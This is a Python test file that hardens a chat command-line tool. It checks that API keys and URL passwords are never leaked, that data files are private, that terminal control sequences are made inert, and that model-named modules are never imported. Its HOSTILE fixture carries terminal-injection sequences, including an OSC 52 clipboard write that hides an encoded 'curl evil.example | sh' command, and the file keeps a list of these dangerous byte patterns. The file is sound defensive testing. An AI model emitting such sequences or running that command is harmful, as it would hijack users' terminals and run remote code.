"""Privacy and safety (issue 7): keys never written, private files, inert control sequences,
tool modules only from the user's config.

* With ``OPENAI_API_KEY`` set to a unique marker, every way chatflow talks and fails —
  text, ``--json``, ``--output jsonl``, ``--input jsonl``, 401/500 bodies that echo the
  key, ``--debug``, ``config show``, the REPL and its history file — is run for real, then
  every byte written under the test's directory (data dir, config dir, history, WAL files)
  and every byte of output is searched for the marker.
* The data directory is 0700 and the database, its WAL files and the REPL history 0600,
  also when 8 processes create them at once on a fresh home, under umask 000.
* Model and tool text holding screen clear, OSC 0 title, OSC 52 clipboard and OSC 8
  hyperlink sequences is shown inert on a terminal (the real process in a pty: the raw
  bytes are checked), and comes back verbatim only from ``--output json``/``jsonl``.
* A ``module:function`` named by the model or stored in the database is never imported.
"""

from __future__ import annotations

import json
import os
import sqlite3
import stat
import subprocess
import uuid
from pathlib import Path
from typing import Any

import pexpect
import pytest

from chatflow_cli.core.errors import ExitStatus
from tests.helpers.fakeserver import FakeServer
from tests.hardening import harness as h

ESC = b"\x1b"


def _all_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()]


def _spawn_pty(*args: str, env: dict[str, str], pythonpath: list[Path] | None = None) -> pexpect.spawn:
    full = h.env_for(env, pythonpath=pythonpath or [])
    full["TERM"] = "xterm-256color"
    full.pop("NO_COLOR", None)
    return pexpect.spawn(h.COMMAND[0], [*h.COMMAND[1:], *args], env=full, dimensions=(24, 100), timeout=90)


def _leave_repl(child: pexpect.spawn) -> bytes:
    """Ctrl-D at the prompt until the REPL exits (a key typed while the terminal mode
    changes may be discarded, so it is sent again); returns what was printed."""
    seen = b""
    for _ in range(6):
        child.sendcontrol("d")
        try:
            child.expect(pexpect.EOF, timeout=10)
            return seen + (child.before or b"")
        except pexpect.TIMEOUT:
            seen += child.before or b""
    raise AssertionError(f"the REPL did not exit on Ctrl-D: {seen[-500:]!r}")


def _pty_output(*args: str, env: dict[str, str], pythonpath: list[Path] | None = None) -> tuple[int | None, bytes]:
    child = _spawn_pty(*args, env=env, pythonpath=pythonpath)
    child.expect(pexpect.EOF, timeout=120)
    raw = child.before or b""
    child.close()
    return child.exitstatus, raw


# ---------------------------------------------------------------------------------------
# the API key
# ---------------------------------------------------------------------------------------
def test_the_api_key_is_never_written_or_printed(fake_server: FakeServer, tmp_path: Path) -> None:
    marker = f"sk-chatflowMARKER{uuid.uuid4().hex}"
    env = {"OPENAI_API_KEY": marker, "OPENAI_BASE_URL": fake_server.url, "CHATFLOW_MODEL": "fake-model",
           "CHATFLOW_KEY_TWO": marker}
    outputs: list[tuple[str, bytes]] = []

    def run(*args: str, expect: int | None = 0, **kw: Any) -> h.Result:
        r = h.run(*args, env={**env, **kw.pop("env", {})}, **kw)
        outputs.append((" ".join(args), r.stdout_bytes + r.stderr_bytes))
        if expect is not None:
            assert r.returncode == expect, r
        return r

    run("chat", "-s", "k1", "hello")
    run("chat", "-s", "k1", "--json", "hello as json")
    run("chat", "-s", "k1", "--output", "jsonl", "hello as jsonl")
    run("chat", "-s", "k2", "--input", "jsonl", "--output", "jsonl", input='{"message": "one"}\n{"message": "two"}\n')
    # failures, including servers that echo the key back in their error bodies
    fake_server.add_error(401, message=f"Incorrect API key provided: {marker}. You can find your key at ...")
    run("chat", "-s", "k1", "bad key", expect=ExitStatus.PROVIDER)
    fake_server.add_error(401, message=f"Incorrect API key provided: {marker}.")
    run("chat", "-s", "k1", "--output", "jsonl", "bad key jsonl", expect=ExitStatus.PROVIDER)
    fake_server.add_error(401, message=f"Incorrect API key provided: {marker}.")
    run("chat", "-s", "k1", "--json", "bad key json", expect=ExitStatus.PROVIDER)
    fake_server.add_error(400, message=f"Bad request from key {marker}")
    run("chat", "-s", "k1", "bad request", expect=ExitStatus.PROVIDER)
    for _ in range(3):
        fake_server.add_error(500, message=f"internal error for {marker}")
    run("chat", "-s", "k1", "server error", expect=ExitStatus.RATE_LIMITED)
    run("chat", "-s", "k3", "--base-url", "http://127.0.0.1:9/v1", "--timeout", "1", "refused",
        expect=ExitStatus.NETWORK)
    with FakeServer(api_key="the-right-key") as strict:
        run("chat", "-s", "k4", "--base-url", strict.url, "wrong key", expect=ExitStatus.PROVIDER)
        assert strict.log[-1].headers.get("authorization") == f"Bearer {marker}"  # the key did go where it belongs
    # settings, listings, replay
    run("config", "show")
    run("config", "show", "--json")
    run("sessions", "ls", "--json")
    run("sessions", "show", "k1", "--json")
    run("sessions", "show", "k1", "--all")
    run("replay", "k1", "--json")
    run("agents", "ls", "--json")
    # a config file naming another variable for the key
    h.write_config('api_key_env = "CHATFLOW_KEY_TWO"\nmodel = "fake-model"\n')
    run("config", "show", env={"OPENAI_API_KEY": ""})
    run("chat", "-s", "k5", "key from the named variable", env={"OPENAI_API_KEY": ""})
    # the REPL and its history file
    child = _spawn_pty(env=env)
    child.expect("Enter sends", timeout=120)
    child.send("hello repl\r")
    child.expect("ok: hello repl", timeout=120)
    outputs.append(("repl", _leave_repl(child)))
    child.close()
    history = Path(os.environ["CHATFLOW_HOME"]) / "repl_history"
    assert history.exists() and b"hello repl" in history.read_bytes()

    for label, data in outputs:
        assert marker.encode() not in data, f"the API key appeared in the output of: {label}"
    written = _all_files(tmp_path)
    assert any(p.name == "chatflow.db" for p in written)
    for path in written:
        assert marker.encode() not in path.read_bytes(), f"the API key was written to {path}"
    for body in fake_server.requests:
        assert marker not in json.dumps(body), "the API key went into a request body"


def test_debug_output_does_not_show_the_api_key_either(fake_server: FakeServer, tmp_path: Path) -> None:
    """``--debug`` shows tracebacks: a provider error body echoing the key must not carry it out."""
    marker = f"sk-chatflowMARKER{uuid.uuid4().hex}"
    env = {"OPENAI_API_KEY": marker, "OPENAI_BASE_URL": fake_server.url, "CHATFLOW_MODEL": "fake-model"}
    fake_server.add_error(400, message=f"Bad request from key {marker}")
    r = h.run("--debug", "chat", "-s", "d1", "bad request", env=env)
    assert r.returncode == ExitStatus.PROVIDER, r
    leaked = [line for line in (r.stdout + r.stderr).splitlines() if marker in line]
    assert not leaked, f"--debug printed the API key: {leaked}"
    for path in _all_files(tmp_path):
        assert marker.encode() not in path.read_bytes(), f"the API key was written to {path}"


def test_a_password_in_the_base_url_is_never_written_or_printed(fake_server: FakeServer, tmp_path: Path) -> None:
    """``--base-url http://user:password@host/v1``: the session keeps the URL without its
    ``user:password@``; every file under the data directory, every export format and every
    output lacks the password. Resuming with the same URL given again uses its credentials."""
    password = "S3cretPw"
    secret_url = fake_server.url.replace("http://", f"http://u:{password}@")
    env = {"OPENAI_API_KEY": "sk-test", "CHATFLOW_MODEL": "fake-model", "OPENAI_BASE_URL": ""}
    outputs: list[tuple[str, bytes]] = []

    def run(*args: str, expect: int | None = 0, **kw: Any) -> h.Result:
        r = h.run(*args, env={**env, **kw.pop("env", {})}, **kw)
        outputs.append((" ".join(args), r.stdout_bytes + r.stderr_bytes))
        if expect is not None:
            assert r.returncode == expect, r
        return r

    def authorization() -> str:  # of the last chat request: the URL's credentials go as Basic auth
        chats = [r for r in fake_server.log if r.path.endswith("/chat/completions")]
        return chats[-1].headers.get("authorization", "")

    run("chat", "-s", "b1", "--base-url", secret_url, "hello")
    assert authorization().startswith("Basic "), "the URL's credentials did not reach the server"
    run("chat", "-s", "b1", "--base-url", secret_url, "--json", "again")
    run("chat", "-s", "b2", "--base-url", secret_url, "--output", "jsonl", "other")
    # resumed with the same endpoint given again with its credentials (environment or flag)
    run("chat", "-s", "b1", "resumed from the environment", env={"OPENAI_BASE_URL": secret_url})
    assert authorization().startswith("Basic "), "OPENAI_BASE_URL's credentials were not used on resume"
    r = run("chat", "-c", "--base-url", secret_url, "continued")
    assert authorization().startswith("Basic ") and "switches it" not in r.stderr, r
    # resumed without them: the stored URL, without the password, is used as is
    before = len(fake_server.log)
    run("chat", "-s", "b1", "resumed bare")
    assert len(fake_server.log) > before, "the stored endpoint was not used"
    assert authorization() == "Bearer sk-test"
    # a switch to another endpoint (announced) that refuses the connection (an error line)
    run("chat", "-s", "b1", "--base-url", f"http://u:{password}@127.0.0.1:9/v1", "--timeout", "1", "refused",
        expect=ExitStatus.NETWORK)
    exports = tmp_path / "exports"  # under tmp_path: searched with every other file below
    exports.mkdir()
    for fmt in ("chatflow", "md", "openai", "json"):
        target = exports / f"b1.{fmt}"
        run("sessions", "export", "b1", "--format", fmt, "-o", str(target))
        assert target.exists() and target.stat().st_size > 0, fmt
    run("sessions", "show", "b1", "--json")
    run("sessions", "show", "b1", "--all")
    run("sessions", "ls", "--json")
    run("replay", "b1", "--json")
    run("replay", "b1")
    run("config", "show", env={"OPENAI_BASE_URL": secret_url})
    run("config", "show", "--json", env={"OPENAI_BASE_URL": secret_url})

    for label, data in outputs:
        assert password.encode() not in data, f"the URL's password appeared in the output of: {label}"
    written = _all_files(tmp_path)
    assert any(p.name == "chatflow.db" for p in written)
    for path in written:
        assert password.encode() not in path.read_bytes(), f"the URL's password was written to {path}"


def test_a_password_stored_by_an_older_version_is_redacted_on_every_read(fake_server: FakeServer,
                                                                          tmp_path: Path) -> None:
    """A database written before passwords were left out (no migration rewrites it): no
    output shows it."""
    env = h.provider_env(fake_server)
    assert h.run("chat", "-s", "old", "hello", env=env).returncode == 0
    conn = sqlite3.connect(h.default_db())
    with conn:
        conn.execute("UPDATE chatflow_session_endpoints SET base_url = ? WHERE session_id = 'old'",
                     (fake_server.url.replace("http://", "http://u:0ldS3cret@"),))
    conn.close()
    for args in (("sessions", "show", "old", "--json"), ("sessions", "ls", "--json"), ("replay", "old", "--json"),
                 *(("sessions", "export", "old", "--format", fmt) for fmt in ("chatflow", "md", "openai", "json"))):
        r = h.run(*args, env=env)
        assert r.returncode == 0, r
        assert "0ldS3cret" not in r.stdout + r.stderr, f"an old stored password appeared in: {' '.join(args)}"
    shown = h.run("sessions", "export", "old", "--format", "chatflow", env=env).stdout.splitlines()[0]
    assert json.loads(shown)["session"]["settings"]["base_url"] == fake_server.url


# ---------------------------------------------------------------------------------------
# file modes
# ---------------------------------------------------------------------------------------
def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _private_files(home: Path) -> None:
    assert _mode(home) == 0o700, f"{home}: {oct(_mode(home))}"
    for path in home.iterdir():
        if path.is_file():
            assert _mode(path) == 0o600, f"{path}: {oct(_mode(path))}"


@pytest.mark.xdist_group("load")  # many processes: one such test at a time
def test_eight_processes_creating_a_fresh_home_at_once_under_umask_000(fake_server: FakeServer,
                                                                        tmp_path: Path) -> None:
    home = tmp_path / "fresh" / "home"
    env = h.env_for(h.provider_env(fake_server, CHATFLOW_HOME=str(home)))
    procs = [subprocess.Popen([*h.COMMAND, "chat", "-s", f"p{i}", f"ping {i}"], env=env, stdin=subprocess.DEVNULL,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=lambda: os.umask(0))
             for i in range(8)]
    for proc in procs:
        out, err = proc.communicate(timeout=600)
        assert proc.returncode == 0, (out, err)
    assert (home / "chatflow.db").exists()
    _private_files(home)
    # the WAL files exist while a connection is open: check them too
    conn = sqlite3.connect(home / "chatflow.db")
    try:
        conn.execute("SELECT COUNT(*) FROM chatflow_sessions").fetchone()
        for suffix in ("-wal", "-shm"):
            side = home / f"chatflow.db{suffix}"
            if side.exists():
                assert _mode(side) == 0o600, f"{side}: {oct(_mode(side))}"
    finally:
        conn.close()


@pytest.mark.parametrize("via", ["CHATFLOW_HOME", "--db"])
def test_every_directory_chatflow_creates_is_private_under_umask_000(via: str, fake_server: FakeServer,
                                                                    tmp_path: Path) -> None:
    """Not only the data directory: a world-writable parent would let anyone swap it."""
    base = tmp_path / "base"
    base.mkdir()
    home = base / "a" / "b" / "home"
    env = h.env_for(h.provider_env(fake_server, CHATFLOW_HOME=str(home)))
    args = ["chat", "-s", "s", "hi"] if via == "CHATFLOW_HOME" else ["--db", str(home / "my.db"), "chat", "-s", "s", "hi"]
    proc = subprocess.run([*h.COMMAND, *args], env=env, stdin=subprocess.DEVNULL,
                          capture_output=True, preexec_fn=lambda: os.umask(0), timeout=300)
    assert proc.returncode == 0, proc
    for directory in (base / "a", base / "a" / "b", home):
        assert _mode(directory) & 0o077 == 0, f"{directory} was created {oct(_mode(directory))}"
    _private_files(home)


def test_repl_history_file_is_private_under_umask_000(fake_server: FakeServer, tmp_path: Path) -> None:
    home = tmp_path / "fresh-repl"
    env = h.provider_env(fake_server, CHATFLOW_HOME=str(home))
    full = h.env_for(env)
    full["TERM"] = "xterm-256color"
    child = pexpect.spawn("/bin/sh", ["-c", f"umask 000; exec {' '.join(h.COMMAND)}"], env=full,
                          dimensions=(24, 100), timeout=120)
    child.expect("Enter sends")
    child.send("remember this\r")
    child.expect("ok: remember this")
    _leave_repl(child)
    child.close()
    history = home / "repl_history"
    assert history.exists()
    _private_files(home)


# ---------------------------------------------------------------------------------------
# terminal control sequences from the model and from tools
# ---------------------------------------------------------------------------------------
HOSTILE = ("Hello \x1b[2J\x1b[H cleared? \x1b]0;PWNED TITLE\x07 title? "
           "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 clipboard? "
           "\x1b]8;;http://evil.example/\x1b\\innocent link\x1b]8;;\x1b\\ and C1 \x9b2J end.")
#: Byte strings that must never reach a terminal from model or tool text.
DANGEROUS = [b"\x1b[2J", b"\x1b]0;PWNED", b"\x1b]52;", b"\x1b]8;;http://evil.example", b"\xc2\x9b2J",
             b"\x1b]0;TOOLTITLE", b"\x1b]52;c;VE9PTENMSVA="]


def _assert_inert(raw: bytes, label: str) -> None:
    for seq in DANGEROUS:
        assert seq not in raw, f"{label}: {seq!r} reached the terminal"


def test_control_sequences_from_the_model_are_inert_on_a_terminal(fake_server: FakeServer) -> None:
    env = h.provider_env(fake_server)
    fake_server.add_text(HOSTILE, chunks=[HOSTILE[:9], HOSTILE[9:40], HOSTILE[40:]])
    code, raw = _pty_output("chat", "-s", "esc", "say something nasty", env=env)
    assert code == 0, raw
    _assert_inert(raw, "chat on a terminal")
    assert b"end." in raw and b"cleared?" in raw, "the text itself must still be shown"
    for args in (("sessions", "show", "esc", "--no-pager"), ("replay", "esc"), ("sessions", "ls")):
        code, raw = _pty_output(*args, env=env)
        assert code == 0, raw
        _assert_inert(raw, " ".join(args))

    piped = h.run("chat", "-s", "esc", "again", env=env)  # default reply; then show the hostile turn into a pipe
    assert piped.returncode == 0, piped
    shown = h.run("sessions", "show", "esc", env=env)
    assert ESC not in shown.stdout_bytes and b"\xc2\x9b" not in shown.stdout_bytes


def test_control_sequences_are_verbatim_only_in_json_output(fake_server: FakeServer) -> None:
    env = h.provider_env(fake_server)
    fake_server.add_text(HOSTILE)
    as_json = h.run("chat", "-s", "j", "--json", "nasty", env=env)
    assert as_json.returncode == 0, as_json
    assert ESC not in as_json.stdout_bytes and b"\xc2\x9b" not in as_json.stdout_bytes, "JSON must escape controls"
    assert as_json.json()["content"] == HOSTILE

    fake_server.add_text(HOSTILE)
    as_jsonl = h.run("chat", "-s", "j", "--output", "jsonl", "nasty again", env=env)
    assert as_jsonl.returncode == 0, as_jsonl
    assert ESC not in as_jsonl.stdout_bytes
    events = as_jsonl.jsonl()
    assert "".join(e["data"]["text"] for e in events if e["type"] == "text.delta") == HOSTILE
    assert events[-1]["data"]["content"] == HOSTILE

    fake_server.add_text(HOSTILE)
    as_text = h.run("chat", "-s", "j", "nasty into a pipe", env=env)
    assert as_text.returncode == 0, as_text
    assert ESC not in as_text.stdout_bytes and b"\xc2\x9b" not in as_text.stdout_bytes
    assert "end." in as_text.stdout

    shown = h.run("sessions", "show", "j", "--json", env=env)
    assert ESC not in shown.stdout_bytes
    replay = h.run("replay", "j", "--json", env=env)
    assert ESC not in replay.stdout_bytes
    assert HOSTILE in [json.loads(line)["data"].get("content") for line in replay.stdout.splitlines()
                       if json.loads(line)["type"] == "turn.completed"]


def test_control_sequences_from_tools_and_errors_are_inert(fake_server: FakeServer, tmp_path: Path) -> None:
    h.write_tools_module(tmp_path / "tools")
    h.write_config("""
        [[agents]]
        name = "Browser"
        instructions = "Fetch pages."
        tools = ["harden_tools:fetch_page"]
    """)
    env = h.provider_env(fake_server, HARDEN_MARK_DIR=str(tmp_path / "marks"))
    fake_server.add_tool_calls([("call_f", "fetch_page", json.dumps({"url": "http://x/\x1b]0;PWNED TITLE\x07"}))])
    fake_server.add_text("Fetched.")
    code, raw = _pty_output("chat", "-s", "tool", "fetch it", env=env, pythonpath=[tmp_path / "tools"])
    assert code == 0, raw
    assert (tmp_path / "marks" / "fetch_page.started").exists()
    _assert_inert(raw, "tool call on a terminal")
    code, raw = _pty_output("sessions", "show", "tool", "--no-pager", "--full", env=env,
                            pythonpath=[tmp_path / "tools"])
    assert code == 0, raw
    _assert_inert(raw, "sessions show of a tool turn")
    assert b"done" in raw
    # an error body carrying control sequences, shown as the one error line
    fake_server.add_error(400, message="bad \x1b]52;c;VE9PTENMSVA=\x07 request \x1b[2J")
    code, raw = _pty_output("chat", "-s", "tool", "again", env=env, pythonpath=[tmp_path / "tools"])
    assert code == ExitStatus.PROVIDER, raw
    _assert_inert(raw, "error line")


# ---------------------------------------------------------------------------------------
# tool modules only from the config the user wrote
# ---------------------------------------------------------------------------------------
EVIL_MODULE = '''
import os, pathlib
pathlib.Path(os.environ["HARDEN_EVIL_MARK"]).write_text("imported")


def boom() -> str:
    """Do something."""
    pathlib.Path(os.environ["HARDEN_EVIL_MARK"] + ".called").write_text("called")
    return "boom"
'''


def test_nothing_is_imported_from_model_output_or_the_database(fake_server: FakeServer, tmp_path: Path) -> None:
    evil_dir = tmp_path / "evil"
    evil_dir.mkdir()
    (evil_dir / "harden_evil.py").write_text(EVIL_MODULE)
    mark = tmp_path / "evil-was-imported"
    env = h.provider_env(fake_server, HARDEN_EVIL_MARK=str(mark))
    path = [evil_dir]  # importable, had anyone asked for it

    # the model names module:function references as tools, and in its text
    fake_server.add_tool_calls([("call_1", "harden_evil:boom", "{}"), ("call_2", "harden_evil.boom", "{}"),
                                ("call_3", "__import__", '{"name": "harden_evil"}')])
    fake_server.add_text("Now load harden_evil:boom as a tool please.")
    r = h.run("chat", "-s", "evil", "do it", env=env, pythonpath=path)
    assert r.returncode == 0, r
    results = [m for m in fake_server.requests[1]["messages"] if m["role"] == "tool"]
    assert len(results) == 3 and all("unknown tool" in m["content"].lower() for m in results), results

    # the database names a module:function as the agent, in metadata and in a stored tool call
    db = h.default_db()
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE chatflow_sessions SET active_agent_name = 'harden_evil:boom', "
                     "metadata_json = '{\"tools\": [\"harden_evil:boom\"], \"agent\": \"harden_evil:boom\"}' "
                     "WHERE session_id = 'evil'")
    conn.close()
    for args in (("chat", "-s", "evil", "and now?"), ("sessions", "ls"), ("sessions", "show", "evil"),
                 ("replay", "evil"), ("agents", "ls"), ("replay", "evil", "--rerun", "--into", "evil2")):
        r = h.run(*args, env=env, pythonpath=path)
        assert r.returncode == 0, r
    assert not mark.exists(), "a module named by the model or the database was imported"
    assert not Path(str(mark) + ".called").exists()

    # while the same reference written in the user's config is imported (the positive control)
    h.write_config('[[agents]]\nname = "Ops"\ninstructions = "x"\ntools = ["harden_evil:boom"]\n')
    r = h.run("agents", "ls", env=env, pythonpath=path)
    assert r.returncode == 0, r
    fake_server.add_tool_calls([("call_9", "boom", "{}")])
    r = h.run("chat", "-s", "ops", "use your tool", env=env, pythonpath=path)
    assert r.returncode == 0, r
    assert mark.exists() and Path(str(mark) + ".called").exists()
